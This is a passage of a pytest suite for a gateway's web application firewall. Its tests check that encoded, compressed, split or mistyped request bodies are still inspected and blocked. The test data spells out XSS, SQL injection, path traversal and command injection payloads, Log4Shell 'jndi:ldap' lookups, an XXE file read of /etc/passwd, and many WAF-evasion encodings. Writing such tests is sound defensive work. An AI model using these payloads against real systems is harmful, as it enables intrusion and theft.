    assert (ran.status, b"".join(ran.pieces)) == (status, text if status == 200 else b"")
    nearly = gzip.compress(b"x" * 4071 + b"<script>alert(1)</script>")
    assert run(both, post("text/plain", nearly, "Content-Encoding: gzip")).status == 403


@pytest.mark.parametrize(
    "body", [b"a=<script>alert(1)</script>", gzip.compress(b"a=1", mtime=0)[:-9] + b"<script>"], ids=["plain", "broken"]
)
def test_a_body_that_cannot_be_decompressed_is_refused(body: bytes) -> None:
    """Some services ignore a coding that does not fit."""
    both = WAF, configured(Decompress)
    ran = run(both, post("application/x-www-form-urlencoded", body, "Content-Encoding: gzip"))
    assert (ran.status, ran.requests) == (403, ())


def _gzip_with(extra: int = 0, blocks: int = 0, text: bytes = b"") -> bytes:
    """Return gzip with so many bytes of an extra field, and so many empty blocks before the text (RFC 1952, 1951)."""
    field = extra.to_bytes(2, "little") + bytes(extra) if extra else b""
    packer = zlib.compressobj(wbits=-15)
    deflated = b"\0\0\0\xff\xff" * blocks + packer.compress(text) + packer.flush()
    sizes = zlib.crc32(text).to_bytes(4, "little") + len(text).to_bytes(4, "little")
    return b"\x1f\x8b\x08" + (b"\4" if extra else b"\0") + bytes(6) + field + deflated + sizes


@pytest.mark.parametrize(
    "body",
    [
        _gzip_with(extra=17_000, text=b"a=<script>alert(1)</script>"),
        _gzip_with(blocks=3_400, text=b"a=<script>alert(1)</script>"),
        _gzip_with(extra=14_000, text=random.Random(1).randbytes(3000).hex().encode() + b"<script>alert(1)</script>"),
        _gzip_with(extra=14_000, text=b"a=<script>alert(1)</script>"),
    ],
)
def test_nothing_in_a_compressed_body_moves_its_text_behind_the_inspected_bytes(body: bytes) -> None:
    ran = run((WAF, configured(Decompress)), post("text/plain", body, "Content-Encoding: gzip"))
    assert (ran.status, ran.requests) == (403, ())


@pytest.mark.parametrize("coding", ENCODERS)
def test_data_that_cannot_be_compressed_further_passes(coding: str) -> None:
    body = ENCODERS[coding](b"\x89PNG\r\n\x1a\n" + random.Random(1).randbytes(300_000))
    assert run((WAF, configured(Decompress)), post("image/png", body, f"Content-Encoding: {coding}")).passed


DROPPING = configured(Headers, request={"remove": ["Content-Encoding"]})
NAMED = b"\x1f\x8b\x08\x08\0\0\0\0\x02\x03&a=<script>alert(1)</script>&b=\0" + gzip.compress(b"a=1", mtime=0)[10:]


@pytest.mark.parametrize("body", [gzip.compress(b"a=1"), NAMED], ids=["harmless", "attack in the name of the file"])
def test_a_body_that_the_service_gets_with_its_coding_is_refused(body: bytes) -> None:
    """It is one that no filter decompresses, whether the service is told so or not."""
    coded = post("application/x-www-form-urlencoded", body, "Content-Encoding: gzip")
    ran = run((WAF, DROPPING), coded)
    assert (ran.status, ran.requests) == (403, ())
    assert "2005" in ran.record.fault_detail
    assert b"".join(run((WAF, DROPPING, configured(Decompress)), coded).pieces) == b"a=1"


def test_the_scores_of_head_and_body_add_up() -> None:
    rules = [
        {"id": 10001, "pattern": "one", "severity": "warning"},
        {"id": 10002, "pattern": "two", "severity": "notice", "targets": ["body"]},
    ]
    both = configured(Waf, rules="none", custom=rules)
    assert (
        run(both, b"POST /one HTTP/1.1\r\nHost: a\r\nContent-Length: 3\r\nContent-Type: text/plain\r\n\r\ntwo").status
        == 403
    )
    assert run(both, post("text/plain", b"two").replace(b"/api", b"/one")).status == 403
    assert run(both, post("text/plain", b"x").replace(b"/api", b"/one")).passed


# long texts, which are searched in a thread


@pytest.mark.parametrize(
    "request_bytes",
    [
        get("/?a=" + "x" * 3000 + f"&id={ATTACK}"),
        get("/", "Cookie: a=" + "x" * 3000 + f"; b={ATTACK}"),
        get("/", "X-Text: " + "x" * 3000 + "<script>alert(1)</script>"),
        form("a=" + "x" * 3000 + f"&id={ATTACK}"),
    ],
)
def test_long_texts_are_inspected_alike(request_bytes: bytes, monkeypatch: pytest.MonkeyPatch) -> None:
    in_thread = run(WAF, request_bytes)
    monkeypatch.setattr(waf_filter, "AT_ONCE", 100_000)
    on_the_loop = run(WAF, request_bytes)
    assert in_thread.status == on_the_loop.status == 403
    assert in_thread.record.fault_detail == on_the_loop.record.fault_detail


@pytest.mark.parametrize("request_bytes", [get("/?a=" + "x" * 3000), form("a=" + "b+" * 3000)])
def test_long_harmless_texts_pass(request_bytes: bytes) -> None:
    assert run(WAF, request_bytes).passed


def test_a_value_with_an_equals_sign_is_searched_as_one() -> None:
    assert not run(WAF, get("/?q=onload=alert")).passed


def test_matches_are_found_in_the_same_values_however_they_are_searched() -> None:
    rules = tuple(
        Rule(10000 + each, "custom", Severity.NOTICE, 1, frozenset((RequestPart.ARGUMENTS,)), pattern)
        for each, pattern in enumerate((b"one", b"^two$", b"th.*ree", b"fo[^u]*ur", b"five", b"six", b"(?:a|b)c"))
    )
    found = rule_sets(rules)[RequestPart.ARGUMENTS]
    texts = [b"one", b"two", b"th", b"ree", b"x", b"three one", b"fo", b"ur", b"six", b"bc ac two", b"two"]
    for more in (1, 40):
        held = texts * more
        for once in (True, False):
            expected, seen = [], set()
            for index, text in enumerate(held):
                for rule in found.matches(text):
                    if not once or rule.id not in seen:
                        expected.append((index, rule))
                    seen.add(rule.id)
            assert found.locate(held, found.matches(b"\0".join(held)), once=once) == expected


# evasions


@for_each(
    "target",
    [
        "/?a=%253Cscript%253Ealert(1)%253C/script%253E",
        "/?a=%26lt%3Bscript%26gt%3Balert(1)",
        "/?a=%5Cu003cscript%5Cu003ealert(1)",
        "/?a=%5Cx3cscript%5Cx3ealert(1)",
        "/?a=%u003cscript%u003ealert(1)",
        "/?a=%EF%BC%9Cscript%EF%BC%9Ealert(1)",
        "/?a=%3Cscr%00ipt%3Ealert(1)",
        "/?a=1%20UN/**/ION/*!50000SELECT*/1,2",
        "/?a=1%0AuNioN%09aLl%0DseLecT%201,2",
        "/?a=..%2f..%2f..%2fetc%2fpasswd",
        "/?a=%c0%ae%c0%ae%c0%afetc%c0%afpasswd",
        "/?a=%e0%81%b5nion+%e0%81%b3elect+password+from+users",
        "/?a=%e0%81%81",
        "/?a=;c'a't%20/e't'c/passwd",
        "/?a=;cat$%7BIFS%7D/etc/passwd",
        "/?a=%24%7Bjndi:ldap://x/a%7D",
        "/?a=%24%7B%24%7Blower:j%7Dndi:ldap://x/a%7D",
        f"/?a=fine&a={ATTACK}",  # a repeated parameter
        "/?" + "&".join(f"a{each}=1" for each in range(201)),
    ],
)
def test_encodings_hide_nothing(target: str) -> None:
    assert run(WAF, get(target)).status == 403


def test_ordinary_xml_passes() -> None:
    body = (
        b'<?xml version="1.0" encoding="UTF-8"?>\n<?xml-stylesheet href="order.xsl" type="text/xsl"?>\n'
        b"<!DOCTYPE order>\n<order id='7'><!-- sent by the shop -->\n"
        b'  <note to="O\'Brien">1 &lt; 2 <b>and</b> <![CDATA[3 > 2]]></note>\n</order>\n'
    )
    assert run(WAF, post("application/xml", body)).passed
    for document in (
        b"\xef\xbb\xbf" + body,
        b"<?xml version='1.0' encoding='ISO-8859-1'?><a encoding=\"utf-7\">\xe9</a>",
        b"<?xml version='1.0'?><\xc3\xa9/>",
        b" <\xc3\xa9/>",
        b"",
    ):
        assert run(WAF, post("text/xml; charset=utf-8", document)).passed


SQL = b"1' or '1'='1"
ENTITIES = b"<a>" + b"".join(b"&#x%x;" % each for each in b"<script>alert(1)</script>") + b"</a>"
UNTYPED = "POST / HTTP/1.1\r\nHost: a\r\nContent-Length: %d\r\n\r\n"


@for_each(
    "body",
    [
        ENTITIES,
        b"\xef\xbb\xbf \r\n" + ENTITIES,
        b"<a>' union <!-- one text -->sel<![CDATA[ect password from users]]></a>",
        b'<?xml version="1.0" encoding="UTF-7"?><a>+ADw-script+AD4-alert(1)</a>',
        b'\xef\xbb\xbf{"a": "\\u003cscript\\u003ealert(1)"}',
        *('{"a": "<script>alert(1)"}'.encode(encoding) for encoding in ("utf-16", "utf-16-le", "utf-16-be", "utf-32")),
        *(XML.encode(encoding) for encoding in ("utf-16", "utf-16-le", "utf-16-be", "utf-32")),
    ],
)
def test_a_body_is_read_as_what_it_is_without_a_type_and_as_a_form(body: bytes) -> None:
    """curl sends files as a form, unless it is told their type."""
    assert run(WAF, UNTYPED.encode() % len(body) + body).status == 403
    assert run(WAF, post("application/x-www-form-urlencoded", body)).status == 403
    assert run(WAF, post("application/json", body)).status == 403


def test_ordinary_documents_without_a_type_pass() -> None:
    items = [{"name": "O'Brien", "note": "1 < 2 & 3", "price": each} for each in range(300)]
    document = b"<items>" + b"<item to='you'>1 &lt; 2 &amp; 3</item>" * 300 + b"</items>"
    for body in (
        json.dumps(items).encode(),
        b'<?xml version="1.0" encoding="UTF-8"?>\n' + document,
        b"\xef\xbb\xbf<a/>",
    ):
        for waf in (WAF, configured(Waf, body_bytes=100_000)):
            assert run(waf, UNTYPED.encode() % len(body) + body).passed
    assert run(WAF, post("application/x-www-form-urlencoded", json.dumps(items[:3]).encode())).passed


ORDINARY_XML = (
    b'<?xml version="1.0" encoding="UTF-8"?>\n<!-- a request -->\n<s:Envelope xmlns:s="http://schemas.xmlsoap.org/'
    b"soap/envelope/\" xmlns:m='http://example.com/m'><s:Body><m:Item>Apples &amp; pears &#169;</m:Item></s:Body>"
    b"</s:Envelope>",
    b'<rss version="2.0"><channel><link>https://example.com/?a=1&amp;b=2</link><item><title>It\'s on</title>'
    b"<description><![CDATA[<p>Hello <b>all</b></p>]]></description></item></channel></rss>",
    b'<svg xmlns="http://www.w3.org/2000/svg"><path d="M0 0 L 10 10" style="fill:none;stroke:#000"/></svg>',
    b'<?xml version="1.0"?>\r\n<d:propfind xmlns:d="DAV:"><d:prop><d:getetag/></d:prop></d:propfind>',
)


@pytest.mark.parametrize("body", ORDINARY_XML)
def test_ordinary_xml_without_a_type_passes(body: bytes) -> None:
    assert run(WAF, UNTYPED.encode() % len(body) + body).passed
    assert run(WAF, post("application/octet-stream", body)).passed
    # the inspected beginning may end anywhere
    refused = [
        size
        for size in range(1, len(body))
        if run(WAF, post("text/xml", body[:size])).passed and not run(WAF, UNTYPED.encode() % size + body[:size]).passed
    ]
    assert refused == []


@for_each(
    "body",
    [
        b"<script>alert(1)</script>",
        b"<a>id=1' or '1'='1</a>",
        b"<a>&id=1%27+or+%271%27=%271</a>",
        b"<!--&id=1%27+or+%271%27=%271-->",
        b"<a b='%3Cscript%3Ealert(1)'/>",
        b"<a></a><b &id=1%27+or+%271%27=%271",
        b"<a &id=1%27+or+%271%27=%271 ></a>",
        b"<a <b>&id=1' or '1'='1",
        b"< &id=1' or '1'='1",
        b"<!DOCTYPE a SYSTEM 'file:///etc/passwd'><a/>",
    ],
)
def test_a_body_that_begins_as_xml_hides_no_form(body: bytes) -> None:
    assert run(WAF, UNTYPED.encode() % len(body) + body).status == 403
    assert run(WAF, post("application/octet-stream", body)).status == 403


@for_each("body", [b"id=" + SQL, b"id=1%27+or+%271%27=%271", b"query: " + SQL, SCRIPT, ENTITIES])
@for_each("kind", ["application/yaml", "application/graphql", "application/x-foo", "image/png"])
def test_control_characters_do_not_switch_the_inspection_off(kind: str, body: bytes) -> None:
    for before, after in ((b"", b""), (b"\x01", b""), (b"\0", b""), (b"\x1e", b"\n\x1f"), (b"", b"\x00\xff" * 300)):
        assert run(WAF, post(kind, before + body + b" " * 500 + after)).status == 403
        assert run(WAF, post(kind, before + b"x " * 400 + body + after)).status == 403


@pytest.mark.parametrize("encoding", ["utf-16", "utf-16-le", "utf-16-be", "utf-32", "utf-32-le", "utf-32-be"])
def test_text_in_utf_16_and_utf_32_is_searched(encoding: str) -> None:
    """Parsers of YAML and JSON recognize it by its first bytes."""
    for text in ('"\u7535\u5f71": <script>alert(1)</script>', "a: \u7535\u5f71 <script>alert(1)</script>"):
        for kind in ("application/yaml", "text/yaml", "application/x-foo"):
            assert run(WAF, post(kind, text.encode(encoding))).status == 403
        if encoding in ("utf-16", "utf-32"):  # with a byte order mark
            assert run(WAF, post("application/yaml", ("\u7535" + text).encode(encoding))).status == 403
    assert run(WAF, post("application/yaml", "name: O'Brien".encode(encoding))).passed


@for_each("kind", ["text/plain", "text/yaml", "text/html", "application/yaml", "application/x-foo"])
@for_each("bom", ["", "\ufeff"])
@for_each("encoding", ["utf-16-le", "utf-16-be", "utf-32-le", "utf-32-be"])
def test_escapes_in_utf_16_and_utf_32_are_decoded(kind: str, bom: str, encoding: str) -> None:
    attack = "' or 1=1-- -"
    for text in (
        '{"a":"' + "".join(f"\\u{ord(each):04x}" for each in attack) + '"}',
        "a: " + "".join(f"\\x{ord(each):02x}" for each in attack),
        "a: " + "".join(f"&#{ord(each)};" for each in attack),
        "a: " + quote(attack),
    ):
        assert run(WAF, post(kind, (bom + text).encode(encoding))).status == 403
    assert run(WAF, post(kind, (bom + '{"name": "O\'Brien \\u00e9"}').encode(encoding))).passed


@pytest.mark.parametrize(
    "kind",
    [
        *("application/json-seq", "application/geo+json-seq", "application/x-json", "application/jsonl"),
        *("application/x-jsonlines", "application/json5", "text/x-json", "application/vnd.api+json"),
    ],
)
def test_records_of_json_are_read_as_json(kind: str) -> None:
    fine = b'\x1e{"a": "O\'Brien"}\n\x1e{"b": [1, true]}\n'
    assert run(WAF, post(kind, fine)).passed
    for text in (
        b'"<script>alert(1)</script>"',
        b'"\\u003cscript\\u003ealert(1)"',
        b'"\\u0031\\u0027 or \\u00271\\u0027=\\u00271"',
    ):
        ran = run(WAF, post(kind, fine + b'\x1e{"name": ' + text + b"}\n"))
        assert "in arguments 'name'" in ran.record.fault_detail


def test_a_form_with_the_type_of_xml_is_searched() -> None:
    assert run(WAF, post("application/xml", f"id={ATTACK}".encode())).status == 403


def test_binary_content_is_not_searched() -> None:
    chunk = b"\0\0\0\rIHDR\0\0\3\x20\0\0\2\x58\x08\6\0\0\0\x9a\x76\x82\x70"
    metadata = b"\0\0\4\0iTXtXML:com.adobe.xmp\0\0\0\0\0<x:xmpmeta xmlns:x='adobe:ns:meta/'>" + b" " * 600
    assert run(WAF, post("image/png", b"\x89PNG\r\n\x1a\n" + chunk + metadata + SCRIPT)).passed
    compressed = zlib.compress(bytes(range(256)) * 4)[2:]
    for body in (
        gzip.compress(random.Random(7).randbytes(4000)),
        random.Random(7).randbytes(4000) + SCRIPT,
        b"\x89PNG\r\n\x1a\n" + chunk + random.Random(7).randbytes(2000),
        b"a.txt" + bytes(507) + SCRIPT + bytes(2000),  # tar
        compressed * 3,
    ):
        for kind in ("application/octet-stream", "application/x-tar", "image/png"):
            assert run(WAF, post(kind, body)).passed
    for kind, body in (
        ("application/zip", b"PK\3\4\x14\0\0\0\0\0" + bytes(16) + b"a.html" + b" " * 500 + SCRIPT),
        ("application/pdf", b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj <</Filter /FlateDecode>> stream\nx\x9c\1" + SCRIPT),
        ("application/vnd.openxmlformats-officedocument.wordprocessingml.document", b"PK\3\4" + bytes(300) + SCRIPT),
        ("application/x-protobuf", b"\n\x1c\x12\x1aSELECT * FROM users WHERE id=1 or 1=1" + SCRIPT),
        ("application/octet-stream", b" \0\0\0" + random.Random(7).randbytes(2000) + SCRIPT),
        ("application/octet-stream", b"\xff\xfe" + random.Random(7).randbytes(2000) + SCRIPT),
    ):
        assert run(WAF, post(kind, body)).passed


def test_200_parameters_pass() -> None:
    assert run(WAF, get("/?" + "&".join(f"a{each}=1" for each in range(200)))).passed


MULTIPART = "multipart/form-data; boundary=b"
MANY = "".join(f"a{each}=1&" for each in range(250))
MANY_FIELDS = b"".join(b'--b\r\nContent-Disposition: form-data; name="a%d"\r\n\r\n1\r\n' % each for each in range(250))


@pytest.mark.parametrize(("parts", "passes"), [(150, True), (200, True), (201, False)])
def test_parts_are_counted_as_parameters_and_their_headers_are_not(parts: int, passes: bool) -> None:
    """As OkHttp sends fields, and a file name whose escaped quotes have several readings."""
    head = b'Content-Disposition: form-data; name="a%d"; filename="a\\"b"\r\nContent-Transfer-Encoding: binary\r\n'
    head += b"Content-Type: text/plain\r\nContent-Length: 1\r\n\r\n1"
    body = b"".join(b"--b\r\n" + head % each + b"\r\n" for each in range(parts)) + b"--b--\r\n"
    ran = run(configured(Waf, body_bytes="64KiB"), post("multipart/form-data; boundary=b", body))
    assert ran.passed is passes
    assert ("2001" in (ran.record.fault_detail or "")) is not passes


@pytest.mark.parametrize(
    "settings",
    [
        {"threshold": 10},  # rule 2001 alone does not reach it
        {"exclude": [{"rules": [2001]}]},
        {"exclude": [{"rules": [2001], "paths": ["*"]}]},
        {"rules": "none", "custom": [{"id": 10001, "pattern": "^<script>.*>$", "targets": ["arguments"]}]},
    ],
)
@pytest.mark.parametrize("many", [False, True])
def test_parameters_beyond_the_maximum_are_searched(settings: dict[str, Any], many: bool) -> None:
    waf = configured(Waf, **settings)
    before, fields = (MANY, MANY_FIELDS) if many else ("", b"")
    for hidden, harmless in (
        (get(f"/?{before}id=%3Cscript%3Ealert(1)%3C/script%3E"), get(f"/?{before}id=1")),
        (form(f"{before}id=<script>alert(1)</script>"), form(f"{before}id=1")),
        (post(MULTIPART, fields + FIELD), post(MULTIPART, fields + FIELD.replace(SCRIPT, b"1"))),
    ):
        assert run(waf, hidden).status == 403
        assert run(waf, harmless).passed


# hostile input


@for_each(
    "piece",
    [
        *(b"/*", b"\\u", b"%25", b"&#", b'"\\', b"--b\r\n", b"${", b"['", b'{"a":', b"\xc0\xaf"),
        *(b"<![CDATA[", b"<!a", b"<!--", b"<?", b"<a '", b'<a b="', b"]]", b"<a>", b"<"),
    ],
)
def test_long_hostile_text_is_bounded(piece: bytes) -> None:
    """It ends, without recursion, and the text for the rules is not much longer than what was received."""
    text = piece * (100_000 // len(piece))
    for kind in (b"application/json", b"application/xml", b"multipart/form-data; boundary=b", b"text/plain", b""):
        values = values_of(kind, text)
        for _, value in values.arguments:
            assert len(normalized(value)) <= 2 * len(value) + 3
        assert sum(len(value) for _, value in values.arguments) <= 3 * len(text)
    assert len(normalized(decoded(text, plus=True))) <= 2 * len(text) + 3


# shadow mode, and bodies that arrive in parts


def test_in_shadow_requests_pass_and_the_log_has_the_decision() -> None:
    of_head = run(WAF, get(f"/?id={ATTACK}"), shadow=True)
    assert of_head.passed
    assert of_head.record.shadowed.startswith("waf: refuse 403 waf_blocked (score 15: 4201 (attack-sqli)")
    of_body = run(WAF, form(f"id={ATTACK}"), shadow=True)
    assert of_body.passed
    assert b"".join(of_body.pieces).endswith(ATTACK.encode())
    assert of_body.record.shadowed.startswith("waf: refuse 403 waf_blocked (score 15: 4201 (attack-sqli)")
    assert run(WAF, form("id=1"), shadow=True).record.shadowed == ""


def test_in_shadow_the_upstream_has_head_and_body_at_once() -> None:
    """Also with `Expect`: the upstream requests the body, not the gateway."""
    plane = Plane({"routes": [{"name": "r", "upstream": "u", "filters": {"waf": {"shadow": True}}}]})
    client = plane.client()
    body = f"id={ATTACK}".encode()
    request = post("application/x-www-form-urlencoded", body, "Expect: 100-continue")
    client.sends(request[: -len(body)])
    upstream = plane.connects()
    assert b"Expect: 100-continue\r\n" in upstream.received
    assert client.received == b""
    for at in range(len(body)):
        client.sends(body[at : at + 1])
        assert upstream.received.endswith(b"\r\n\r\n" + body[: at + 1])
    upstream.sends(b"HTTP/1.1 200 OK\r\nContent-Length: 0\r\n\r\n")
    (record,) = plane.records
    assert (record.status, record.fault) == (200, "")
    assert record.shadowed.startswith("waf: refuse 403 waf_blocked (score 15: 4201 (attack-sqli)")


@pytest.mark.parametrize(
    ("text", "decision"),
    [
        (b'{"a":1}', ""),
        (
            b'{"a":"1\' union select password from users--"}',
            "waf: refuse 403 waf_blocked (score 13: 4204 (attack-sqli)",
        ),
    ],
    ids=["harmless", "attack"],
)
@pytest.mark.parametrize("place", ["listeners", "routes"])
@on_loop
async def test_in_shadow_a_body_that_decompress_decompresses_is_inspected_as_the_service_gets_it(
    place: str, text: bytes, decision: str
) -> None:
    """Also if the filter runs before the route, whose `decompress` it is, is known."""
    waf = {"waf": {"shadow": True}}
    listener = {"address": "127.0.0.1:0", "filters": waf if place == "listeners" else {}}
    filters = {"decompress": {}} | (waf if place == "routes" else {})
    route = {"name": "r", "upstream": "u", "filters": filters}
    plane = Plane({"listeners": {"main": listener}, "routes": [route]})
    client = plane.client()
    client.sends(post("application/json", gzip.compress(text), "Content-Encoding: gzip"))
    upstream = plane.connects()
    assert text in upstream.received
    await until(lambda: len(asyncio.all_tasks()) == 1)  # the decision is made
    upstream.sends(b"HTTP/1.1 200 OK\r\nContent-Length: 0\r\n\r\n")
    (record,) = plane.records
    assert (record.status, record.shadowed[: len(decision)]) == (200, decision)
    assert bool(record.shadowed) is bool(decision)


@pytest.mark.parametrize("size", [1, 7, 40])
def test_a_body_that_arrives_in_parts_is_held_until_it_is_inspected(size: int) -> None:
    body = b"a=1&b=<script>alert(1)</script>"
    whole = post("application/x-www-form-urlencoded", body)
    split = len(whole) - len(body)
    parts = [whole[:split], *(whole[at : at + size] for at in range(split, len(whole), size))]
    assert run(WAF, parts).requests == ()
    harmless = [each.replace(b"<", b"l").replace(b">", b"g").replace(b"(", b"x") for each in parts]
    assert run(WAF, harmless).passed


def test_a_long_body_goes_on_while_it_arrives() -> None:
    body = b"some plain text " * 4000
    whole = post("text/plain", body)
    ran = run(WAF, [whole[at : at + 9000] for at in range(0, len(whole), 9000)])
    assert b"".join(ran.pieces) == body
